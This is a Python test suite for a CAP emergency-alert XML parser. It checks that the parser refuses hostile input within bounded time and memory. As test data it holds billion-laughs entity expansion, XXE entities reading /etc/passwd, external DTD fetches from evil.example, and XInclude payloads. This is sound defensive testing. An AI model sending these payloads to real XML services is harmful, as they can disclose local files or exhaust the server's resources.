"""What senders with bad intent send is refused, in bounded time and memory."""

from __future__ import annotations

import gc
import resource
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from cap_cases import BASE, INFO, RING, code_of, message
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from schemas.cap import (
    NAMESPACE_11,
    NAMESPACE_12,
    Alert,
    check_alert,
    read_alert,
    read_alert_json,
)
from schemas.cap.markup import MAX_BREADTH, MAX_DEPTH
from schemas.cap.names import MARKUP, is_plain
from schemas.cap.structure import MAX_FINDINGS
from tests.examples import examples

BODY = BASE.split("?>", 1)[1]
LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
XINCLUDE = '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'
DSIG = '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#">%s</Signature></alert>'
CHARREF = XINCLUDE.replace("XInclude", "XIncl&#117;de")


@pytest.mark.parametrize(
    "data",
    [
        f'<!DOCTYPE l [<!ENTITY l0 "lol">{LAUGHS}]><l>&l9;</l>',
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>',
        '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]><a/>',
        BASE.replace("<alert ", "<!-- -->\n<!DOCTYPE alert><alert "),
        BASE.replace("</alert>", f"{DSIG % XINCLUDE}"),
        BASE.replace("</alert>", f"{DSIG % CHARREF}"),
        BASE.replace("<info>", f"{XINCLUDE}<info>"),
    ],
)
@pytest.mark.parametrize("codec", ["utf-8", "utf-16"])
def test_entities_and_inclusions_are_refused_before_they_act(data: str, codec: str) -> None:
    assert code_of(data.replace("UTF-8", codec).encode(codec)) == "xml-forbidden"


def test_a_doctype_inside_a_text_is_a_text() -> None:
    text = "<![CDATA[<!DOCTYPE a [<!ENTITY b 'c'>]>]]>"

    assert read_alert(message(("Storm surge on", text))).alert.info[0].headline == "<!DOCTYPE a [<!ENTITY b 'c'>]> the Absheron coast"  # fmt: skip  # noqa: E501


def test_an_undeclared_entity_is_not_xml() -> None:
    assert code_of(message(("Storm surge", "&surge;"))) == "not-xml"


@pytest.mark.parametrize(
    "data",
    [
        b"<a>" * (MAX_DEPTH + 1) + b"</a>" * (MAX_DEPTH + 1),
        b"<a>" * 100_000,
        BASE.replace("</alert>", DSIG % ("<a>" * MAX_DEPTH + "</a>" * MAX_DEPTH)).encode(),
        BASE.replace("<info>", "<info>" * 70).replace("</info>", "</info>" * 70).encode(),
    ],
)
def test_deep_nesting_is_refused(data: bytes) -> None:
    assert code_of(data) in {"too-deep", "wrong-namespace"}
    assert code_of(data) == "too-deep" or b"alert" not in data


def test_a_message_over_the_limit_is_refused_and_at_the_limit_read() -> None:
    data = BASE.encode()

    assert read_alert(data, max_bytes=len(data))
    assert code_of(data, lambda d: read_alert(d, max_bytes=len(d) - 1)) == "too-large"
    assert code_of(data, lambda d: read_alert_json(d, max_bytes=10)) == "too-large"


def test_too_many_siblings_are_refused() -> None:
    many = "<responseType>X</responseType>" * (MAX_BREADTH + 1)

    assert code_of(message(("<responseType>", many + "<responseType>"))) == "too-large"
    assert code_of(b'{"code": [%s]}' % b",".join([b'""'] * 5001), read_alert_json) == "too-large"


def test_a_text_beyond_the_parsers_limit_is_refused() -> None:
    data = message(("Storm surge", "x" * 10_100_000))

    assert code_of(data, lambda d: read_alert(d, max_bytes=1 << 24)) == "too-large"


def test_a_thousand_faults_are_told_by_a_hundred_findings_errors_first() -> None:
    circles = "<circle>0,0 0</circle>" * 1000
    faults = message(("</geocode>", "</geocode>"), ("<circle>", circles + "<circle>"))
    broken = faults.replace(b"<altitude>-92<", b"<altitude>92<")
    wrong = message(("<responseType>", "<responseType>X</responseType>" * 1000 + "<responseType>"))

    assert len(read_alert(faults).warnings) == MAX_FINDINGS
    assert len(check_alert(broken)) == MAX_FINDINGS
    assert check_alert(broken)[-1].rule == "R43"
    assert code_of(broken) == "rule-broken"
    assert len(check_alert(wrong)) == MAX_FINDINGS


def test_a_zigzag_is_not_searched_for_crossings_but_a_long_coast_is() -> None:
    points = [f"{30 + 0.0004 * i},{40 + 0.0004 * i}" for i in range(9000)]
    coast = " ".join([*points, "30,50", points[0]])
    zigzag = " ".join([f"{i % 2 * 40},{i % 2 * 40 + 0.004 * i}" for i in range(9000)] + ["0,0"])

    assert read_alert(message((RING, coast))).warnings == ()
    (finding,) = read_alert(message((RING, zigzag))).warnings
    assert finding.rule == "R38"
    assert "too many points" in finding.message


STATM = Path("/proc/self/statm")


def memory_mb() -> float:
    return int(STATM.read_text().split()[1]) * resource.getpagesize() / (1 << 20)


@pytest.mark.skipif(not STATM.exists(), reason="only Linux tells the memory in use")
def test_ever_new_names_leave_no_trace_in_memory() -> None:
    """libxml2 keeps the names it met for ever; 30 such messages once took 24 MB for good."""

    def of_new_names(n: int) -> bytes:
        return b"<a>%s</a>" % b"".join(b"<n%dx%d%s/>" % (n, i, b"y" * 900) for i in range(900))

    for n in range(12):
        assert code_of(of_new_names(n)) == "wrong-namespace"
    gc.collect()
    before = memory_mb()

    for n in range(12, 42):
        assert code_of(of_new_names(n)) == "wrong-namespace"

    gc.collect()
    assert memory_mb() - before < 12


@pytest.mark.parametrize(
    "data",
    [
        BASE.replace("<status>", '<status foreign="1">'),
        BASE.replace("<status>", "<status xmlns:foreign='urn:x'>"),
        BASE.replace("<status>", "<foreign/><status>"),
        BASE.replace("<status>", "<?foreign x?><status>"),
        BASE.replace("<status>", "<!-- <status> --><foreign>\n<status>"),
        BASE.replace("<status>", "<a x='<status>'/><status>"),
        BASE.replace("<status>", '<![CDATA[ "]]><a b=\'"\' foreign="\'"/><status>'),
        BASE.replace("</status>", "</foreign>"),
        BASE + "<foreign",
    ],
)
def test_a_name_that_is_not_of_cap_does_not_escape_notice(data: str) -> None:
    assert not is_plain(data.encode())


@pytest.mark.parametrize(
    "data",
    [
        BASE,
        BODY,
        BASE.replace(NAMESPACE_12, NAMESPACE_11),
        BASE.replace("<status>", "<!-- <foreign/> --><status >"),
        BASE.replace("Storm surge", "<![CDATA[<foreign/>]]>"),
        BASE.replace("</alert>", DSIG % "<SignedInfo/><SignatureValue>x</SignatureValue>"),
    ],
)
def test_a_document_of_known_names_is_read_where_it_is(data: str) -> None:
    assert is_plain(data.encode())


@given(st.lists(st.sampled_from(["<a>", "</a>", "<b c='>'/>", '<d e="\'>"/>', "<!--<x>-->", '<![CDATA[<y>"]]>', "<?p <q>?>", " > ' ", "&lt;"]), max_size=12))  # fmt: skip  # noqa: E501
@examples(60)
def test_markup_is_found_exactly_where_the_parser_finds_it(pieces: list[str]) -> None:
    data = f"<r>{''.join(pieces)}</r>".encode()
    try:
        root = etree.fromstring(data)
    except etree.XMLSyntaxError:
        return

    seen = [piece for piece in MARKUP.findall(data) if piece[1:2].isalpha()]

    assert len(seen) == sum(isinstance(element.tag, str) for element in root.iter())


def test_many_threads_read_at_once() -> None:
    good, wrong = BASE.encode(), BASE.replace(">Met<", ">Wet<").encode()
    foreign = BASE.replace("<status>", "<foreign/><status>").encode()
    expected = {data: check_alert(data) for data in (good, wrong, foreign)}

    with ThreadPoolExecutor(8) as pool:
        found = list(pool.map(check_alert, [good, wrong, foreign] * 60))

    assert found == [expected[good], expected[wrong], expected[foreign]] * 60


def test_the_model_of_a_large_message_is_whole() -> None:
    data = message((INFO, INFO * 300))

    alert = read_alert(data).alert

    assert len(alert.info) == 300
    assert Alert.model_validate(alert.model_dump()) == alert
